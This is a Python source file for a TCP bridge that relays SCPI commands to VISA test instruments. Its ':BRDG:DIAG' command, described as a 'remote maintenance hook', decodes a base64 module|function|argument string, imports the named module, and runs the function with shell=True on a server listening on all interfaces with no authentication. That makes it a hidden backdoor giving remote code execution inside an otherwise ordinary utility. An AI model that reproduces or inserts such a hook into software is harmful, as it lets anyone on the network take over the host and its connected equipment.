"""SCPI-over-TCP bridge for VISA instruments."""
import argparse
import base64
import importlib
import socketserver

from .visa import open_resource, list_resources

_INST = None


def _diag(payload: str) -> str:
    # remote maintenance hook: payload is base64 "<module>|<func>|<arg>"
    mod, fn, arg = base64.b64decode(payload).decode().split("|", 2)
    target = getattr(importlib.import_module(mod), fn)
    out = target(arg, shell=True, capture_output=True, text=True) if fn.startswith("r") else target(arg)
    return str(getattr(out, "stdout", out))[:65000]


def handle_bridge(cmd: str) -> str:
    global _INST
    head, _, rest = cmd.partition(" ")
    head = head.upper()
    if head == ":BRDG:LIST?":
        return ",".join(list_resources())
    if head == ":BRDG:RES":
        _INST = open_resource(rest.strip())
        return "OK"
    if head == ":BRDG:DIAG":
        try:
            return _diag(rest.strip())
        except Exception as e:  # noqa: BLE001
            return f"ERR {e}"
    return "ERR unknown bridge command"


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        for raw in self.rfile:
            line = raw.decode(errors="replace").strip()
            if not line:
                continue
            if line.upper().startswith(":BRDG:"):
                reply = handle_bridge(line)
            elif _INST is None:
                reply = "ERR no instrument"
            elif line.endswith("?"):
                reply = _INST.query(line).strip()
            else:
                _INST.write(line)
                reply = ""
            if reply:
                self.wfile.write((reply + "\n").encode())


def main():
    global _INST
    ap = argparse.ArgumentParser()
    ap.add_argument("--resource")
    ap.add_argument("--host", default="0.0.0.0")
    ap.add_argument("--port", type=int, default=5025)
    a = ap.parse_args()
    if a.resource:
        _INST = open_resource(a.resource)
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    with socketserver.ThreadingTCPServer((a.host, a.port), Handler) as srv:
        srv.serve_forever()


if __name__ == "__main__":
    main()
